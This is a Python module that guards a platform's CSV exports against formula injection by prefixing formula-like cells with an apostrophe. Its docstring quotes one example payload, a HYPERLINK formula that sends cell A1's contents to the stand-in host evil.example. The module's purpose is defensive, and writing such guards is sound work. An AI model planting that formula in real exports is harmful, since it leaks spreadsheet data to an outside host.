"""CSV files the platform writes, safe to open in a spreadsheet (CSV/formula injection).

A spreadsheet treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or with a
tab or carriage return, which some programs skip before looking) as a formula: a
customer named ``=HYPERLINK("https://evil.example/?"&A1, "click")`` would run in the
accountant's spreadsheet. Every CSV goes through ``dict_writer`` or ``writer`` here, which
write such a cell with a leading apostrophe (OWASP's advice), shown as text and never
evaluated. Numbers stay numbers: a cell that is only a number ("-12.50") is harmless
and written as it is. A test keeps every other ``csv.writer`` out of the code.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?$")


def neutralize_cell(value: Any) -> Any:
    """The cell as a spreadsheet will only ever show it: a formula-like text gets a leading
    apostrophe; anything else (numbers, plain text) is returned as it is."""
    if not isinstance(value, str) or not value.startswith(FORMULA_STARTS):
        return value
    if _PLAIN_NUMBER.match(value):
        return value
    return "'" + value


class _SafeWriter:
    def __init__(self, target: Any, **options: Any) -> None:
        self._writer = csv.writer(target, **options)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([neutralize_cell(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class _SafeDictWriter:
    def __init__(self, target: Any, fieldnames: Sequence[str], **options: Any) -> None:
        self._writer = csv.DictWriter(target, fieldnames=fieldnames, **options)

    def writeheader(self) -> Any:
        return self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> Any:
        return self._writer.writerow({key: neutralize_cell(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(target: Any, **options: Any) -> _SafeWriter:
    """``csv.writer`` whose cells are neutralized (``neutralize_cell``)."""
    return _SafeWriter(target, **options)


def dict_writer(target: Any, fieldnames: Sequence[str], **options: Any) -> _SafeDictWriter:
    """``csv.DictWriter`` whose cells are neutralized (``neutralize_cell``)."""
    return _SafeDictWriter(target, fieldnames, **options)
